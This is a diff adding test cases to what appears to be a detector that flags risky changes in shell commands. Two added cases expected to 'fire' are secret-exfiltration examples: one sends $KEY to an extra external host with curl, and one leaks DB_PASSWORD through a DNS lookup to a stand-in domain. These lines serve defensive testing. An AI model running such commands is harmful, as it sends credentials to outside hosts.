@@ -39,6 +39,40 @@ export const COMMAND_CASES: Case[] = [
   ],
   [
     id,
+    'fires',
+    'one more address',
+    'medium',
+    pair(
+      run('curl "https://one.example.net/$KEY"'),
+      run('curl "https://one.example.net/$KEY"; curl "https://two.example.net/$KEY"'),
+    ),
+  ],
+  [
+    id,
+    'fires',
+    'an address behind a variable',
+    'medium',
+    pair(usual, run('nslookup "${DB_PASSWORD}.example.net"; exec server')),
+  ],
+  [
+    id,
+    'silent',
+    'paths of jq',
+    '',
+    pair(
+      run('curl -s "https://one.example.net/$KEY" | jq -r .labels.name'),
+      run(`curl -s "https://one.example.net/$KEY" | jq -r '.labels.project // empty | select(.parent.id)'`),
+    ),
+  ],
+  [
+    id,
+    'silent',
+    'more of what it does with the same address',
+    '',
+    pair(run('curl "https://one.example.net/$KEY"'), run('curl "https://one.example.net/$KEY"; echo done >>"$LOG"')),
+  ],
+  [
+    id,
     'silent',
     'waiting for a Service',
     '',
